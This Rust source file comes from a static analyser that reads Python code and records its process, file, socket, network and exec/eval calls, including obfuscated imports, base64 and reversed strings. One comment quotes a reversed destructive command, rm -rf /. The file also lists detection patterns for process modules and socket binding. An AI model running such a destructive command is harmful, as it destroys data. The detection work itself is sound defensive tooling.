//! Python, read with tree-sitter-python: imports and aliases resolved (`import os as o`,
//! `from os import system as s`, `from os import *`, `__import__('os')`,
//! `importlib.import_module`, `getattr(os, 'system')`, `sys.modules['os']`,
//! `__builtins__['exec']`), literals carried through assignments, and the process, file,
//! socket and `exec`/`eval` calls of the standard library turned into [`Facts`].

use tree_sitter::Node;

use super::decode::{Encoding, decode};
use super::functions::{Func, Funcs};
use super::tree::{self, Grammar, all, named, text, unescape};
use super::{Facts, Lang, MAX_NODE_DEPTH, Origin, Scope, UNKNOWN, Value, concat, format_percent};

/// Modules whose use means the code can start processes or open sockets.
const PROCESS_MODULES: &[&str] = &[
    "os",
    "subprocess",
    "pty",
    "commands",
    "posix",
    "nt",
    "socket",
    "multiprocessing",
    "ctypes",
    "asyncio",
    "popen2",
    "platform",
];

/// Builtins the reader resolves by name.
const BUILTINS: &[&str] = &[
    "exec",
    "eval",
    "compile",
    "open",
    "__import__",
    "getattr",
    "globals",
    "locals",
    "vars",
    "str",
    "bytes",
    "bytearray",
    "execfile",
    "list",
    "tuple",
];

pub(super) fn analyse(code: &str, depth: usize, f: &mut Facts) {
    let tree = match tree::parse(code, Grammar::Python) {
        Ok(t) => t,
        Err(e) => {
            f.errors.push(e);
            return;
        }
    };
    let mut r = Reader {
        src: code,
        scope: Scope::default(),
        funcs: Funcs::default(),
        star: Vec::new(),
        f,
        depth,
        level: 0,
    };
    r.visit(tree.root_node());
    r.read_unfollowed();
}

struct Reader<'t, 's, 'f> {
    src: &'s str,
    scope: Scope,
    /// Functions and lambdas the program defines.
    funcs: Funcs<'t>,
    /// Modules imported with `from M import *`.
    star: Vec<String>,
    f: &'f mut Facts,
    /// Levels of evaluated code this program sits in.
    depth: usize,
    /// Syntax-tree depth of the current node.
    level: usize,
}

/// Arguments of a call: positional, then keywords.
struct Args {
    pos: Vec<Value>,
    kw: Vec<(String, Value)>,
}

impl Args {
    fn at(&self, i: usize) -> Value {
        self.pos.get(i).cloned().unwrap_or_else(Value::unknown)
    }

    /// A parameter given by keyword or by position.
    fn get(&self, name: &str, i: usize) -> Value {
        self.kw
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.clone())
            .unwrap_or_else(|| self.at(i))
    }

    fn has(&self, i: usize) -> bool {
        i < self.pos.len()
    }

    fn origin(&self) -> Origin {
        self.pos
            .iter()
            .chain(self.kw.iter().map(|(_, v)| v))
            .map(Value::origin)
            .max()
            .unwrap_or(Origin::Plain)
    }
}

/// `os.chmod`'s mode as `chmod` writes it (`0o4755` is `4755`).
fn mode(v: &Value) -> Value {
    match v {
        Value::Num(n) => Value::str(format!("{n:o}")),
        other => other.clone(),
    }
}

fn element(v: &Value, i: usize) -> Value {
    match v {
        Value::List(items) => items.get(i).cloned().unwrap_or_else(Value::unknown),
        _ => Value::unknown(),
    }
}

/// `sys.modules['os']`, `posix.system` and `__builtins__.exec` under their usual names.
fn normalize(q: &str) -> String {
    let q = q
        .strip_prefix("builtins.")
        .or_else(|| q.strip_prefix("__builtin__."))
        .unwrap_or(q);
    if let Some(rest) = q.strip_prefix("posix.").or_else(|| q.strip_prefix("nt.")) {
        return format!("os.{rest}");
    }
    q.to_string()
}

impl<'t> Reader<'t, '_, '_> {
    fn enter(&mut self) -> bool {
        self.level += 1;
        if self.level > MAX_NODE_DEPTH {
            if self.f.errors.is_empty() {
                self.f.errors.push(format!(
                    "Python code nested deeper than {MAX_NODE_DEPTH} levels"
                ));
            }
            return false;
        }
        true
    }

    fn t(&self, n: Node<'t>) -> &str {
        text(n, self.src)
    }

    /// A statement, or any node whose calls must be seen.
    fn visit(&mut self, n: Node<'t>) {
        if self.enter() {
            match n.kind() {
                "import_statement" => self.import(n),
                "import_from_statement" => self.import_from(n),
                "assignment" => {
                    self.assign(n);
                }
                "augmented_assignment" => self.augment(n),
                "function_definition" => {
                    if let (Some(name), Some(body)) =
                        (n.child_by_field_name("name"), n.child_by_field_name("body"))
                    {
                        let f = self
                            .funcs
                            .define(n, n.child_by_field_name("parameters"), body);
                        let name = self.t(name).to_string();
                        self.scope.set(&name, f);
                    }
                }
                "return_statement" => {
                    let v = named(n)
                        .first()
                        .map_or_else(Value::unknown, |e| self.eval(*e));
                    if self.funcs.in_call() && self.funcs.ret.is_none() {
                        self.funcs.ret = Some(v);
                    }
                }
                "exec_statement" => {
                    let code = n
                        .child_by_field_name("code")
                        .map_or_else(Value::unknown, |c| self.eval(c));
                    self.f.eval(&code, Lang::Python, self.depth);
                }
                _ => {
                    self.eval(n);
                }
            }
        }
        self.level -= 1;
    }

    fn note_module(&mut self, m: &str) {
        let top = m.split('.').next().unwrap_or(m);
        if PROCESS_MODULES.contains(&top) {
            self.f.process_module = true;
        }
    }

    fn import(&mut self, n: Node<'t>) {
        for c in named(n) {
            match c.kind() {
                "dotted_name" => {
                    let full = self.t(c).to_string();
                    self.note_module(&full);
                    let top = full.split('.').next().unwrap_or(&full).to_string();
                    self.scope.set(&top, Value::Name(top.clone()));
                }
                "aliased_import" => {
                    let (Some(name), Some(alias)) = (
                        c.child_by_field_name("name"),
                        c.child_by_field_name("alias"),
                    ) else {
                        continue;
                    };
                    let full = self.t(name).to_string();
                    self.note_module(&full);
                    let alias = self.t(alias).to_string();
                    self.scope.set(&alias, Value::Name(full));
                }
                _ => {}
            }
        }
    }

    fn import_from(&mut self, n: Node<'t>) {
        let Some(module) = n.child_by_field_name("module_name") else {
            return;
        };
        if module.kind() != "dotted_name" {
            return;
        }
        let m = self.t(module).to_string();
        self.note_module(&m);
        for c in named(n) {
            if c.id() == module.id() {
                continue;
            }
            match c.kind() {
                "dotted_name" => {
                    let name = self.t(c).to_string();
                    self.scope.set(&name, Value::Name(format!("{m}.{name}")));
                }
                "aliased_import" => {
                    let (Some(name), Some(alias)) = (
                        c.child_by_field_name("name"),
                        c.child_by_field_name("alias"),
                    ) else {
                        continue;
                    };
                    let name = self.t(name).to_string();
                    let alias = self.t(alias).to_string();
                    self.scope.set(&alias, Value::Name(format!("{m}.{name}")));
                }
                "wildcard_import" => self.star.push(m.clone()),
                _ => {}
            }
        }
    }

    fn assign(&mut self, n: Node<'t>) -> Value {
        let v = match n.child_by_field_name("right") {
            Some(r) if r.kind() == "assignment" => self.assign(r),
            Some(r) => self.eval(r),
            None => Value::unknown(),
        };
        if let Some(left) = n.child_by_field_name("left") {
            self.bind(left, v.clone());
        }
        v
    }

    fn bind(&mut self, left: Node<'t>, v: Value) {
        match left.kind() {
            "identifier" => {
                let name = self.t(left).to_string();
                self.scope.set(&name, v);
            }
            "pattern_list" | "tuple_pattern" | "list_pattern" => {
                for (i, c) in named(left).into_iter().enumerate() {
                    self.bind(c, element(&v, i));
                }
            }
            _ => {
                self.eval(left);
            }
        }
    }

    fn augment(&mut self, n: Node<'t>) {
        let (Some(left), Some(right)) = (
            n.child_by_field_name("left"),
            n.child_by_field_name("right"),
        ) else {
            return;
        };
        let r = self.eval(right);
        if left.kind() != "identifier" {
            return;
        }
        let name = self.t(left).to_string();
        let op = n
            .child_by_field_name("operator")
            .map(|o| self.t(o).to_string())
            .unwrap_or_default();
        let old = self
            .scope
            .get(&name)
            .cloned()
            .unwrap_or_else(Value::unknown);
        let new = if op == "+=" {
            match (old, r) {
                (Value::List(mut a), Value::List(b)) => {
                    a.extend(b);
                    Value::List(a)
                }
                (a, b) => concat(&[a, b]),
            }
        } else {
            Value::unknown()
        };
        self.scope.set(&name, new);
    }

    fn eval(&mut self, n: Node<'t>) -> Value {
        if !self.enter() {
            self.level -= 1;
            return Value::unknown();
        }
        let v = self.eval_inner(n);
        self.level -= 1;
        v
    }

    fn eval_inner(&mut self, n: Node<'t>) -> Value {
        match n.kind() {
            "string" => self.string(n),
            "concatenated_string" => {
                let parts: Vec<Value> = named(n).into_iter().map(|c| self.eval(c)).collect();
                concat(&parts)
            }
            "integer" => {
                let t = self.t(n).replace('_', "").to_ascii_lowercase();
                let parsed = if let Some(o) = t.strip_prefix("0o") {
                    i64::from_str_radix(o, 8).ok()
                } else if let Some(x) = t.strip_prefix("0x") {
                    i64::from_str_radix(x, 16).ok()
                } else if let Some(b) = t.strip_prefix("0b") {
                    i64::from_str_radix(b, 2).ok()
                } else {
                    t.parse().ok()
                };
                parsed.map_or_else(Value::unknown, Value::Num)
            }
            "true" => Value::Bool(true),
            "false" => Value::Bool(false),
            "identifier" => self.lookup(n),
            "attribute" => {
                let obj = n
                    .child_by_field_name("object")
                    .map_or_else(Value::unknown, |o| self.eval(o));
                let attr = n
                    .child_by_field_name("attribute")
                    .map(|a| self.t(a).to_string())
                    .unwrap_or_default();
                member(obj, &attr)
            }
            "call" => self.call(n),
            "lambda" => match n.child_by_field_name("body") {
                Some(body) => self
                    .funcs
                    .define(n, n.child_by_field_name("parameters"), body),
                None => Value::unknown(),
            },
            "list" | "tuple" | "expression_list" | "set" => {
                let mut items = Vec::new();
                for c in named(n) {
                    if c.kind() == "list_splat" {
                        match named(c).first().map(|x| self.eval(*x)) {
                            Some(Value::List(v)) => items.extend(v),
                            _ => items.push(Value::unknown()),
                        }
                    } else {
                        items.push(self.eval(c));
                    }
                }
                Value::List(items)
            }
            "parenthesized_expression" | "await" => match named(n).as_slice() {
                [one] => self.eval(*one),
                more => {
                    for c in more {
                        self.visit(*c);
                    }
                    Value::unknown()
                }
            },
            "dictionary" => {
                let mut kv = Vec::new();
                for p in named(n) {
                    if p.kind() != "pair" {
                        self.visit(p);
                        continue;
                    }
                    let k = p.child_by_field_name("key").map(|k| self.eval(k));
                    let v = p
                        .child_by_field_name("value")
                        .map_or_else(Value::unknown, |v| self.eval(v));
                    if let Some(k) = k.and_then(|k| k.known()) {
                        kv.push((k, v));
                    }
                }
                Value::Obj(kv)
            }
            "binary_operator" => self.binary(n),
            "subscript" => self.subscript(n),
            "keyword_argument" => n
                .child_by_field_name("value")
                .map_or_else(Value::unknown, |v| self.eval(v)),
            _ => {
                for c in named(n) {
                    self.visit(c);
                }
                Value::unknown()
            }
        }
    }

    fn lookup(&mut self, n: Node<'t>) -> Value {
        let id = self.t(n).to_string();
        if let Some(v) = self.scope.get(&id) {
            return v.clone();
        }
        if id == "__builtins__" {
            return Value::Name("builtins".into());
        }
        if let Some(m) = self.star.last() {
            return Value::Name(format!("{m}.{id}"));
        }
        if BUILTINS.contains(&id.as_str()) {
            return Value::Name(id);
        }
        Value::unknown()
    }

    fn string(&mut self, n: Node<'t>) -> Value {
        let mut raw = false;
        let mut out = String::new();
        let mut known = true;
        for c in all(n) {
            match c.kind() {
                "string_start" => raw = self.t(c).to_ascii_lowercase().contains('r'),
                "string_content" | "escape_sequence" => {
                    let t = self.t(c);
                    out.push_str(&if raw { t.to_string() } else { unescape(t) });
                }
                "interpolation" => {
                    let v = c
                        .child_by_field_name("expression")
                        .map_or_else(Value::unknown, |e| self.eval(e));
                    match v.text() {
                        Some((t, k)) => {
                            out.push_str(&t);
                            known &= k;
                        }
                        None => {
                            out.push_str(UNKNOWN);
                            known = false;
                        }
                    }
                }
                _ => {}
            }
        }
        Value::Str { text: out, known }
    }

    fn binary(&mut self, n: Node<'t>) -> Value {
        let l = n
            .child_by_field_name("left")
            .map_or_else(Value::unknown, |x| self.eval(x));
        let r = n
            .child_by_field_name("right")
            .map_or_else(Value::unknown, |x| self.eval(x));
        let op = n
            .child_by_field_name("operator")
            .map(|o| self.t(o).to_string())
            .unwrap_or_default();
        match (op.as_str(), l, r) {
            ("+", Value::List(mut a), Value::List(b)) => {
                a.extend(b);
                Value::List(a)
            }
            ("+", Value::Num(a), Value::Num(b)) => Value::Num(a.wrapping_add(b)),
            ("+", a, b) => concat(&[a, b]),
            ("/", Value::Inst("path", p), b) => {
                Value::Inst("path", Box::new(concat(&[*p, Value::str("/"), b])))
            }
            ("%", Value::Str { text, known }, r) => {
                let args = match r {
                    Value::List(v) => v,
                    one => vec![one],
                };
                format_percent(&text, known, &args)
            }
            ("|", Value::Num(a), Value::Num(b)) => Value::Num(a | b),
            (_, a, b) => Value::Unknown(a.origin().max(b.origin())),
        }
    }

    fn subscript(&mut self, n: Node<'t>) -> Value {
        let obj = n
            .child_by_field_name("value")
            .map_or_else(Value::unknown, |v| self.eval(v));
        let Some(sub) = n.child_by_field_name("subscript") else {
            return Value::unknown();
        };
        if sub.kind() == "slice" {
            // `'/ fr- mr'[::-1]`: reversed text is a common way to hide a command.
            let reversed = self.t(sub).replace(' ', "") == "::-1";
            for c in named(sub) {
                self.visit(c);
            }
            return match obj {
                Value::Str { text, known } if reversed => Value::Str {
                    text: text.chars().rev().collect(),
                    known,
                },
                Value::List(mut v) if reversed => {
                    v.reverse();
                    Value::List(v)
                }
                other => Value::Unknown(other.origin()),
            };
        }
        let key = self.eval(sub);
        match (obj, key) {
            (Value::Name(q), k) if k.known().is_some() => {
                let k = k.known().unwrap_or_default();
                if q == "sys.modules" {
                    self.note_module(&k);
                    Value::Name(k)
                } else {
                    member(Value::Name(q), &k)
                }
            }
            (Value::List(v), Value::Num(i)) => usize::try_from(i)
                .ok()
                .and_then(|i| v.get(i).cloned())
                .unwrap_or_else(Value::unknown),
            (Value::Obj(kv), k) => k
                .known()
                .and_then(|k| kv.into_iter().find(|(x, _)| *x == k).map(|(_, v)| v))
                .unwrap_or_else(Value::unknown),
            (other, _) => Value::Unknown(other.origin()),
        }
    }

    fn args(&mut self, n: Option<Node<'t>>) -> Args {
        let mut a = Args {
            pos: Vec::new(),
            kw: Vec::new(),
        };
        let Some(n) = n else { return a };
        if n.kind() != "argument_list" {
            a.pos.push(self.eval(n));
            return a;
        }
        for c in named(n) {
            match c.kind() {
                "keyword_argument" => {
                    let name = c
                        .child_by_field_name("name")
                        .map(|x| self.t(x).to_string())
                        .unwrap_or_default();
                    let v = c
                        .child_by_field_name("value")
                        .map_or_else(Value::unknown, |x| self.eval(x));
                    a.kw.push((name, v));
                }
                "list_splat" => match named(c).first().map(|x| self.eval(*x)) {
                    Some(Value::List(v)) => a.pos.extend(v),
                    _ => a.pos.push(Value::unknown()),
                },
                "dictionary_splat" => {
                    self.visit(c);
                }
                _ => {
                    let v = self.eval(c);
                    a.pos.push(v);
                }
            }
        }
        a
    }

    fn call(&mut self, n: Node<'t>) -> Value {
        let func = n
            .child_by_field_name("function")
            .map_or_else(Value::unknown, |f| self.eval(f));
        let args = self.args(n.child_by_field_name("arguments"));
        if let Value::Func(i) = func {
            return self.call_local(i, args);
        }
        // A function handed to code the reader does not follow may be called with anything.
        for v in args.pos.iter().chain(args.kw.iter().map(|(_, v)| v)) {
            self.funcs.escape(v);
        }
        match func {
            Value::Name(q) => {
                let q = normalize(&q);
                self.api(&q, &args, n)
            }
            Value::Method(class, m, recv) => self.method(class, &m, *recv, &args),
            other => Value::Unknown(other.origin().max(args.origin())),
        }
    }

    /// A call to a function the program defined: its body read with the parameters bound
    /// to the call's values, in a scope that is dropped afterwards.
    fn call_local(&mut self, i: usize, args: Args) -> Value {
        let Some(func) = self.funcs.enter(i) else {
            return Value::unknown();
        };
        let saved = self.scope.clone();
        let saved_ret = self.funcs.ret.take();
        self.bind_params(func.params, Some(args));
        let v = self.read_body(func);
        self.funcs.ret = saved_ret;
        self.scope = saved;
        self.funcs.leave();
        v
    }

    /// Reads a function body; a lambda's value is its expression, a block's its first
    /// `return`.
    fn read_body(&mut self, func: Func<'t>) -> Value {
        if func.body.kind() == "block" {
            self.visit(func.body);
            self.funcs.ret.take().unwrap_or_else(Value::unknown)
        } else {
            self.eval(func.body)
        }
    }

    /// Binds parameters to a call's values (`None`: all unknown). Defaults apply where
    /// the call gives nothing; `*args` takes the rest of the positional values and
    /// `**kw` the rest of the keywords.
    fn bind_params(&mut self, params: Option<Node<'t>>, args: Option<Args>) {
        let Some(params) = params else { return };
        let unknown = args.is_none();
        let mut args = args.unwrap_or(Args {
            pos: Vec::new(),
            kw: Vec::new(),
        });
        let mut i = 0;
        for p in named(params) {
            let (name, default) = match p.kind() {
                "identifier" => (Some(p), None),
                "typed_parameter" => (
                    named(p).into_iter().find(|c| c.kind() == "identifier"),
                    None,
                ),
                "default_parameter" | "typed_default_parameter" => (
                    p.child_by_field_name("name"),
                    p.child_by_field_name("value"),
                ),
                "list_splat_pattern" => {
                    let rest = if unknown {
                        Value::unknown()
                    } else {
                        Value::List(args.pos.iter().skip(i).cloned().collect())
                    };
                    i = usize::MAX;
                    if let Some(id) = named(p).first() {
                        let id = self.t(*id).to_string();
                        self.scope.set(&id, rest);
                    }
                    continue;
                }
                "dictionary_splat_pattern" => {
                    let rest = if unknown {
                        Value::unknown()
                    } else {
                        Value::Obj(std::mem::take(&mut args.kw))
                    };
                    if let Some(id) = named(p).first() {
                        let id = self.t(*id).to_string();
                        self.scope.set(&id, rest);
                    }
                    continue;
                }
                _ => continue,
            };
            let Some(name) = name else { continue };
            let id = self.t(name).to_string();
            let v = if let Some(k) = args.kw.iter().position(|(k, _)| *k == id) {
                args.kw.remove(k).1
            } else if let Some(v) = args.pos.get(i).filter(|_| !unknown) {
                v.clone()
            } else if let (false, Some(d)) = (unknown, default) {
                self.eval(d)
            } else {
                Value::unknown()
            };
            i = i.saturating_add(1);
            self.scope.set(&id, v);
        }
    }

    /// Bodies no call followed (never called by name, passed as values, past a limit):
    /// read once with every parameter unknown.
    fn read_unfollowed(&mut self) {
        while let Some(func) = self.funcs.next_unread() {
            let saved = self.scope.clone();
            self.bind_params(func.params, None);
            self.read_body(func);
            self.funcs.ret = None;
            self.scope = saved;
        }
    }

    /// A library function or builtin.
    fn api(&mut self, q: &str, a: &Args, n: Node<'t>) -> Value {
        let f = &mut *self.f;
        match q {
            "__import__" | "importlib.import_module" | "importlib.__import__" => {
                match a.at(0).known() {
                    Some(m) => {
                        self.note_module(&m);
                        let top = if q == "__import__" {
                            m.split('.').next().unwrap_or(&m).to_string()
                        } else {
                            m
                        };
                        Value::Name(top)
                    }
                    // A module chosen at run time may be any of them.
                    None => {
                        self.f.process_module = true;
                        Value::unknown()
                    }
                }
            }
            "getattr" => match a.at(1).known() {
                Some(attr) => member(a.at(0), &attr),
                None => Value::unknown(),
            },
            "globals" | "locals" | "vars" => Value::Name(String::new()),
            // `list(args)`: how a helper turns its `*args` into an argv list.
            "list" | "tuple" => match a.at(0) {
                v @ Value::List(_) => v,
                other => Value::Unknown(other.origin()),
            },
            "exec" | "eval" | "compile" => {
                f.eval(&a.get("source", 0), Lang::Python, self.depth);
                Value::unknown()
            }
            "os.system"
            | "os.popen"
            | "os.popen2"
            | "os.popen3"
            | "os.popen4"
            | "commands.getoutput"
            | "commands.getstatusoutput"
            | "subprocess.getoutput"
            | "subprocess.getstatusoutput"
            | "platform.popen"
            | "asyncio.create_subprocess_shell" => {
                f.shell(a.get("cmd", 0));
                Value::unknown()
            }
            "subprocess.run"
            | "subprocess.call"
            | "subprocess.check_call"
            | "subprocess.check_output"
            | "subprocess.Popen" => {
                let shell =
                    a.kw.iter()
                        .any(|(k, v)| k == "shell" && !matches!(v, Value::Bool(false)));
                f.command(a.get("args", 0), shell);
                Value::unknown()
            }
            "pty.spawn" => {
                f.command(a.at(0), false);
                Value::unknown()
            }
            "asyncio.create_subprocess_exec" => {
                f.exec(a.pos.clone());
                Value::unknown()
            }
            "os.execv" | "os.execve" | "os.execvp" | "os.execvpe" | "os.posix_spawn"
            | "os.posix_spawnp" => {
                exec_v(f, a.at(0), a.at(1));
                Value::unknown()
            }
            "os.spawnv" | "os.spawnve" | "os.spawnvp" | "os.spawnvpe" => {
                exec_v(f, a.at(1), a.at(2));
                Value::unknown()
            }
            "os.execl" | "os.execlp" => {
                exec_l(f, &a.pos, 0, a.pos.len());
                Value::unknown()
            }
            "os.execle" | "os.execlpe" => {
                exec_l(f, &a.pos, 0, a.pos.len().saturating_sub(1));
                Value::unknown()
            }
            "os.spawnl" | "os.spawnlp" => {
                exec_l(f, &a.pos, 1, a.pos.len());
                Value::unknown()
            }
            "os.spawnle" | "os.spawnlpe" => {
                exec_l(f, &a.pos, 1, a.pos.len().saturating_sub(1));
                Value::unknown()
            }
            "os.fork" | "os.forkpty" | "pty.fork" | "multiprocessing.Process" => {
                f.process_module = true;
                f.bind = true;
                Value::unknown()
            }
            "os.dup2" | "os.dup" => {
                f.bind = true;
                Value::unknown()
            }
            "shutil.rmtree" => {
                f.as_command(&["rm", "-r", "-f"], vec![a.get("path", 0)]);
                Value::unknown()
            }
            "os.remove" | "os.unlink" => {
                f.as_command(&["rm", "-f"], vec![a.get("path", 0)]);
                Value::unknown()
            }
            "os.rmdir" => {
                f.as_command(&["rmdir"], vec![a.get("path", 0)]);
                Value::unknown()
            }
            "os.removedirs" => {
                f.as_command(&["rmdir", "-p"], vec![a.get("name", 0)]);
                Value::unknown()
            }
            "shutil.move" | "os.rename" | "os.replace" | "os.renames" => {
                f.as_command(&["mv"], vec![a.at(0), a.at(1)]);
                Value::unknown()
            }
            "shutil.copy" | "shutil.copy2" | "shutil.copyfile" => {
                f.as_command(&["cp"], vec![a.at(0), a.at(1)]);
                Value::unknown()
            }
            "shutil.copytree" => {
                f.as_command(&["cp", "-r"], vec![a.at(0), a.at(1)]);
                Value::unknown()
            }
            "os.chmod" | "os.lchmod" => {
                f.exec(vec![
                    Value::str("chmod"),
                    mode(&a.get("mode", 1)),
                    Value::str("--"),
                    a.get("path", 0),
                ]);
                Value::unknown()
            }
            "os.chown" | "os.lchown" | "shutil.chown" => {
                let owner = concat(&[a.at(1), Value::str(":"), a.at(2)]);
                f.exec(vec![
                    Value::str("chown"),
                    owner,
                    Value::str("--"),
                    a.get("path", 0),
                ]);
                Value::unknown()
            }
            "os.truncate" => {
                f.exec(vec![
                    Value::str("truncate"),
                    Value::str("-s"),
                    a.at(1),
                    Value::str("--"),
                    a.at(0),
                ]);
                Value::unknown()
            }
            "os.symlink" | "os.link" => {
                f.as_command(&["ln", "-s"], vec![a.at(0), a.at(1)]);
                Value::unknown()
            }
            "open" | "io.open" | "codecs.open" | "os.fdopen" => {
                let path = a.get("file", 0);
                let mode = a.get("mode", 1);
                open(
                    f,
                    path.clone(),
                    &mode,
                    a.has(1) || a.kw.iter().any(|(k, _)| k == "mode"),
                );
                Value::Inst("file", Box::new(path))
            }
            "os.open" => {
                let flags = n
                    .child_by_field_name("arguments")
                    .map(|x| self.t(x).to_string())
                    .unwrap_or_default();
                let f = &mut *self.f;
                if ["O_WR", "O_RDWR", "O_CREAT", "O_APPEND", "O_TRUNC"]
                    .iter()
                    .any(|w| flags.contains(w))
                {
                    f.write(a.at(0));
                } else {
                    f.read(a.at(0));
                }
                Value::unknown()
            }
            "pathlib.Path"
            | "pathlib.PosixPath"
            | "pathlib.PurePath"
            | "pathlib.PurePosixPath"
            | "pathlib.WindowsPath" => {
                let mut parts = Vec::new();
                for (i, p) in a.pos.iter().enumerate() {
                    if i > 0 {
                        parts.push(Value::str("/"));
                    }
                    parts.push(p.clone());
                }
                let p = if parts.is_empty() {
                    Value::str(".")
                } else {
                    concat(&parts)
                };
                Value::Inst("path", Box::new(p))
            }
            "pathlib.Path.home" => Value::Inst("path", Box::new(Value::str("~"))),
            "os.path.expanduser" | "os.path.expandvars" | "os.path.abspath"
            | "os.path.realpath" | "os.path.normpath" | "os.fsencode" | "os.fsdecode" | "str"
            | "bytes" | "bytearray" => a.at(0),
            "os.path.join" => {
                let mut parts = Vec::new();
                for (i, p) in a.pos.iter().enumerate() {
                    if i > 0 {
                        parts.push(Value::str("/"));
                    }
                    parts.push(p.clone());
                }
                concat(&parts)
            }
            "base64.b64decode"
            | "base64.decodebytes"
            | "base64.decodestring"
            | "base64.standard_b64decode"
            | "base64.urlsafe_b64decode"
            | "binascii.a2b_base64" => decode(&a.at(0), Encoding::Base64),
            "base64.b16decode" | "binascii.unhexlify" | "binascii.a2b_hex" | "bytes.fromhex"
            | "bytearray.fromhex" => decode(&a.at(0), Encoding::Hex),
            "codecs.decode" => match a.get("encoding", 1).known() {
                Some(enc) => match Encoding::named(&enc) {
                    Some(e) => decode(&a.at(0), e),
                    None => a.at(0),
                },
                None => Value::Unknown(Origin::Decoded),
            },
            "base64.b32decode"
            | "base64.b32hexdecode"
            | "base64.a85decode"
            | "base64.b85decode"
            | "zlib.decompress"
            | "gzip.decompress"
            | "bz2.decompress"
            | "lzma.decompress"
            | "marshal.loads"
            | "pickle.loads"
            | "binascii.a2b_uu" => Value::Unknown(Origin::Decoded),
            "urllib.request.urlopen"
            | "urllib.urlopen"
            | "urllib2.urlopen"
            | "urllib.request.urlretrieve"
            | "urllib.urlretrieve"
            | "requests.get"
            | "requests.post"
            | "requests.put"
            | "requests.patch"
            | "requests.delete"
            | "requests.head"
            | "httpx.get"
            | "httpx.post"
            | "httpx.put"
            | "httpx.patch"
            | "httpx.delete"
            | "httpx.stream" => {
                f.request(a.get("url", 0));
                Value::Unknown(Origin::Fetched)
            }
            "requests.request" | "httpx.request" => {
                f.request(a.get("url", 1));
                Value::Unknown(Origin::Fetched)
            }
            "urllib.request.Request" | "urllib2.Request" => a.get("url", 0),
            "http.client.HTTPConnection"
            | "http.client.HTTPSConnection"
            | "httplib.HTTPConnection"
            | "httplib.HTTPSConnection"
            | "telnetlib.Telnet"
            | "ftplib.FTP"
            | "ftplib.FTP_TLS"
            | "smtplib.SMTP"
            | "smtplib.SMTP_SSL"
            | "poplib.POP3"
            | "imaplib.IMAP4"
            | "imaplib.IMAP4_SSL" => {
                if a.has(0) {
                    f.connect(a.get("host", 0), a.get("port", 1));
                }
                Value::Unknown(Origin::Fetched)
            }
            "socket.socket" | "socket.fromfd" | "socket.socketpair" => {
                f.socket = true;
                f.process_module = true;
                Value::Inst("socket", Box::new(Value::unknown()))
            }
            "socket.create_connection" => {
                let addr = a.get("address", 0);
                f.connect(element(&addr, 0), element(&addr, 1));
                Value::Inst("socket", Box::new(addr))
            }
            "socketserver.TCPServer"
            | "socketserver.UDPServer"
            | "socketserver.ThreadingTCPServer"
            | "http.server.HTTPServer"
            | "http.server.ThreadingHTTPServer"
            | "socket.create_server" => {
                f.listen();
                Value::unknown()
            }
            _ => Value::Unknown(a.origin()),
        }
    }

    /// A method of an object the reader follows.
    fn method(&mut self, class: &'static str, m: &str, recv: Value, a: &Args) -> Value {
        let f = &mut *self.f;
        match (class, m) {
            ("socket", "connect" | "connect_ex") => {
                let addr = a.at(0);
                f.connect(element(&addr, 0), element(&addr, 1));
                Value::unknown()
            }
            ("socket", "listen") => {
                f.listen();
                Value::unknown()
            }
            ("socket", "recv" | "recvfrom" | "makefile" | "recv_into") => {
                Value::Unknown(Origin::Net)
            }
            ("path", "unlink") => {
                f.as_command(&["rm", "-f"], vec![recv]);
                Value::unknown()
            }
            ("path", "rmdir") => {
                f.as_command(&["rmdir"], vec![recv]);
                Value::unknown()
            }
            ("path", "write_text" | "write_bytes" | "touch") => {
                f.write(recv);
                Value::unknown()
            }
            ("path", "read_text" | "read_bytes") => {
                f.read(recv);
                Value::unknown()
            }
            ("path", "open") => {
                let mode = a.get("mode", 0);
                open(f, recv.clone(), &mode, a.has(0) || !a.kw.is_empty());
                Value::Inst("file", Box::new(recv))
            }
            ("path", "rename" | "replace") => {
                f.as_command(&["mv"], vec![recv, a.at(0)]);
                Value::unknown()
            }
            ("path", "chmod") => {
                f.exec(vec![
                    Value::str("chmod"),
                    mode(&a.at(0)),
                    Value::str("--"),
                    recv,
                ]);
                Value::unknown()
            }
            ("path", "symlink_to") => {
                f.as_command(&["ln", "-s"], vec![a.at(0), recv]);
                Value::unknown()
            }
            ("path", "expanduser" | "resolve" | "absolute") => Value::Inst("path", Box::new(recv)),
            ("path", "joinpath") => {
                let mut parts = vec![recv];
                for p in &a.pos {
                    parts.push(Value::str("/"));
                    parts.push(p.clone());
                }
                Value::Inst("path", Box::new(concat(&parts)))
            }
            ("str", "decode" | "encode" | "strip" | "rstrip" | "lstrip") => recv,
            ("str", "lower") => text_map(recv, |s| s.to_lowercase()),
            ("str", "upper") => text_map(recv, |s| s.to_uppercase()),
            ("str", "replace") => match (a.at(0).known(), a.at(1).known()) {
                (Some(x), Some(y)) if !x.is_empty() => text_map(recv, |s| s.replace(&x, &y)),
                _ => Value::Unknown(recv.origin()),
            },
            ("str", "join") => match a.at(0) {
                Value::List(items) => {
                    let sep = recv.render();
                    let mut parts = Vec::new();
                    for (i, it) in items.into_iter().enumerate() {
                        if i > 0 {
                            parts.push(Value::str(sep.clone()));
                        }
                        parts.push(it);
                    }
                    concat(&parts)
                }
                other => Value::Unknown(other.origin()),
            },
            ("str", "split") => match (recv.known(), a.has(0)) {
                (Some(s), false) => Value::List(s.split_whitespace().map(Value::str).collect()),
                (Some(s), true) => match a.at(0).known() {
                    Some(sep) if !sep.is_empty() => {
                        Value::List(s.split(sep.as_str()).map(Value::str).collect())
                    }
                    _ => Value::unknown(),
                },
                _ => Value::unknown(),
            },
            ("str", "format") => {
                let (text, known) = recv.text().unwrap_or_default();
                format_braces(&text, known, &a.pos)
            }
            _ => Value::Unknown(recv.origin().max(a.origin())),
        }
    }
}

/// `x.attr` on a value.
fn member(obj: Value, attr: &str) -> Value {
    match obj {
        // `os.__dict__['system']` is `os.system`.
        n @ Value::Name(_) if attr == "__dict__" => n,
        Value::Name(q) if q.is_empty() => Value::Name(attr.to_string()),
        Value::Name(q) => Value::Name(format!("{q}.{attr}")),
        Value::Inst(class, v) => Value::Method(class, attr.to_string(), v),
        s @ Value::Str { .. } => Value::Method("str", attr.to_string(), Box::new(s)),
        other => Value::Unknown(other.origin()),
    }
}

fn text_map(v: Value, f: impl Fn(&str) -> String) -> Value {
    match v {
        Value::Str { text, known } => Value::Str {
            text: f(&text),
            known,
        },
        other => Value::Unknown(other.origin()),
    }
}

/// `open(path, mode)`: a write for `w`, `a`, `x` and `+`, otherwise a read.
